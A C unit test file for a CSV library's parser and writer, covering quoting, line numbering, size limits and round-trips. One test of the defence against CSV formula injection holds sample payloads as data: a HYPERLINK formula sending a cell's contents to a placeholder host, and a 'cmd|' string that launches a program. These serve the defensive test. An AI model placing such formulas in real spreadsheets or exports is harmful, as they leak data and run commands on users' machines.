/* test_csvio.c — the libcsv reader's pitfalls and the writer's quoting. */
#define _POSIX_C_SOURCE 200809L
#include <stdio.h>
#include <stdlib.h>
#include "testutil.h"
#include "common/text.h"

struct rows {
    char cell[16][8][64];
    long line[16];
    size_t nf[16];
    int n;
};

static lscb_err collect(void *ctx, char **f, size_t n, long line, struct lscb_error *e)
{
    struct rows *r = ctx;
    if (r->n >= 16)
        return LSCB_OK;
    r->nf[r->n] = n;
    r->line[r->n] = line;
    for (size_t i = 0; i < n && i < 8; i++)
        if (text_fmt(r->cell[r->n][i], sizeof r->cell[r->n][i], "%s", f[i]))
            return lscb_fail(e, LSCB_EINPUT, "test: line %ld, field %zu longer than the test "
                             "holds", line, i);
    r->n++;
    return LSCB_OK;
}

static lscb_err parse(const char *text, size_t chunk, struct rows *r, struct lscb_error *e)
{
    memset(r, 0, sizeof *r);
    struct membuf m = {text, strlen(text), 0, chunk};
    return csv_read(membuf_read, &m, "t.csv", collect, r, e);
}

static void test_bom_crlf_quotes(void **st)
{
    (void)st;
    struct rows r;
    struct lscb_error e = {0};
    const char *t = "\xEF\xBB\xBFid,name\r\n1,\"a, b\"\r\n2,\"say \"\"hi\"\"\"\r\n";
    for (size_t chunk = 1; chunk <= 7; chunk += 3) {
        assert_int_equal(parse(t, chunk, &r, &e), LSCB_OK);
        assert_int_equal(r.n, 3);
        assert_string_equal(r.cell[0][0], "id");  /* no BOM stuck to it */
        assert_string_equal(r.cell[1][1], "a, b");
        assert_string_equal(r.cell[2][1], "say \"hi\"");
        assert_int_equal(r.line[2], 3);
    }
}

static void test_embedded_newline_line_numbers(void **st)
{
    (void)st;
    struct rows r;
    struct lscb_error e = {0};
    assert_int_equal(parse("a,b\n1,\"x\ny\"\n2,z\n", 0, &r, &e), LSCB_OK);
    assert_int_equal(r.n, 3);
    assert_string_equal(r.cell[1][1], "x\ny");
    assert_int_equal(r.line[1], 2);
    assert_int_equal(r.line[2], 4);
}

static void test_spaces_kept(void **st)
{
    (void)st;
    struct rows r;
    struct lscb_error e = {0};
    assert_int_equal(parse("a,b\n 2023-01-01 ,x\n", 0, &r, &e), LSCB_OK);
    assert_string_equal(r.cell[1][0], " 2023-01-01 ");
}

static void test_stray_quote_stops(void **st)
{
    (void)st;
    struct rows r;
    struct lscb_error e = {0};
    /* an unterminated quote at the end of the file */
    assert_int_equal(parse("a,b\n1,\"open\n2,x\n", 0, &r, &e), LSCB_EINPUT);
    assert_non_null(strstr(e.msg, "t.csv:2"));
    /* a quote inside an unquoted field is malformed in strict mode */
    assert_int_equal(parse("a,b\n1,x\"y\n", 0, &r, &e), LSCB_EINPUT);
    assert_non_null(strstr(e.msg, "t.csv:"));
}

static void test_stray_quote_huge_file_bounded(void **st)
{
    (void)st;
    /* 3 MB after a stray quote: stopped by the buffer check, not swallowed */
    size_t n = 3u << 20;
    char *t = malloc(n + 16);
    assert_non_null(t);
    strcpy(t, "a,b\n1,\"");
    memset(t + 7, 'x', n);
    t[n + 7] = '\0';
    struct rows r;
    struct lscb_error e = {0};
    assert_int_equal(parse(t, 0, &r, &e), LSCB_EINPUT);
    assert_non_null(strstr(e.msg, "unterminated quote"));
    free(t);
}

static void test_writer_quotes(void **st)
{
    (void)st;
    char *buf = NULL;
    size_t len = 0;
    FILE *fp = open_memstream(&buf, &len);
    const char *f[] = {"plain", "a,b", "q\"x", "line\nbreak", ""};
    csv_put_row(fp, f, 5);
    fclose(fp);
    assert_string_equal(buf, "plain,\"a,b\",\"q\"\"x\",\"line\nbreak\",\n");
    /* and it reads back the same */
    struct rows r;
    struct lscb_error e = {0};
    assert_int_equal(parse(buf, 0, &r, &e), LSCB_OK);
    assert_int_equal(r.nf[0], 5);
    assert_string_equal(r.cell[0][3], "line\nbreak");
    free(buf);
}

/* A row of many long fields is not held whole: past 8 MB it stops with its
 * line (each field under libcsv's 1 MB limit, 9 of them). */
static void test_long_row_stops(void **st)
{
    (void)st;
    size_t field = 1000000, n = 9;
    char *text = malloc(16 + n * (field + 1) + 2);
    assert_non_null(text);
    memcpy(text, "a,b\n", 4);
    size_t k = 4;
    for (size_t i = 0; i < n; i++) {
        memset(text + k, 'x', field);
        k += field;
        text[k++] = i + 1 < n ? ',' : '\n';
    }
    text[k] = '\0';
    struct rows r;
    struct lscb_error e = {0};
    assert_int_equal(parse(text, 65536, &r, &e), LSCB_EINPUT);
    assert_non_null(strstr(e.msg, ":2: a row longer than"));
    free(text);
}

/* CSV injection (OWASP): a text cell a spreadsheet would run as a formula
 * gets a leading apostrophe; numbers and ordinary text are as they were. */
static void test_writer_neutralises_formulas(void **st)
{
    (void)st;
    char *buf = NULL;
    size_t len = 0;
    FILE *fp = open_memstream(&buf, &len);
    const char *f[] = {"=HYPERLINK(\"http://x/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                       "\tX", "\rY", "-3", "+1.5", "-2e-3", "K1", "a=b", "-", "-inf", ""};
    csv_put_text_row(fp, f, 14);
    fclose(fp);
    assert_string_equal(buf, "\"'=HYPERLINK(\"\"http://x/\"\"&A1)\",\"'+1+cmd|' /C calc'!A0\","
                             "\"'-2+3\",\"'@SUM(A1)\",\"'\tX\",\"'\rY\",-3,+1.5,-2e-3,K1,a=b,"
                             "\"'-\",\"'-inf\",\n");
    struct rows r;
    struct lscb_error e = {0};
    assert_int_equal(parse(buf, 0, &r, &e), LSCB_OK);
    assert_int_equal(r.nf[0], 14);
    for (int i = 0; i < 6; i++)
        assert_int_equal(r.cell[0][i][0], '\'');
    assert_false(csv_text_is_formula("205"));
    assert_true(csv_text_is_formula("=1"));
    free(buf);
}

/* What csv_put_text wrote, csv_text_unescape gives back exactly: a formula,
 * text that already begins with an apostrophe before one, and everything
 * else untouched (numbers, an apostrophe before ordinary text). */
static void test_unescape_round_trip(void **st)
{
    (void)st;
    const char *v[] = {"=HYPERLINK(\"x\")", "'=1+2", "''@A1", "'abc", "'", "-3", "-", "K1",
                       "", "+1+1", "'-3"};
    for (size_t i = 0; i < sizeof v / sizeof *v; i++) {
        char *buf = NULL;
        size_t len = 0;
        FILE *fp = open_memstream(&buf, &len);
        csv_put_text(fp, v[i], true);
        putc('\n', fp);
        fclose(fp);
        struct rows r;
        struct lscb_error e = {0};
        assert_int_equal(parse(buf, 0, &r, &e), LSCB_OK);
        char cell[64];
        assert_int_equal(text_fmt(cell, sizeof cell, "%s", r.cell[0][0]), 0);
        bool marked = cell[0] == '\'' && strcmp(cell, v[i]) != 0;
        assert_true(marked == (i < 3 || i == 6 || i == 9));
        csv_text_unescape(cell);
        assert_string_equal(cell, v[i]);
        free(buf);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_bom_crlf_quotes),
        cmocka_unit_test(test_embedded_newline_line_numbers),
        cmocka_unit_test(test_spaces_kept),
        cmocka_unit_test(test_stray_quote_stops),
        cmocka_unit_test(test_stray_quote_huge_file_bounded),
        cmocka_unit_test(test_writer_quotes),
        cmocka_unit_test(test_writer_neutralises_formulas),
        cmocka_unit_test(test_unescape_round_trip),
        cmocka_unit_test(test_long_row_stops),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
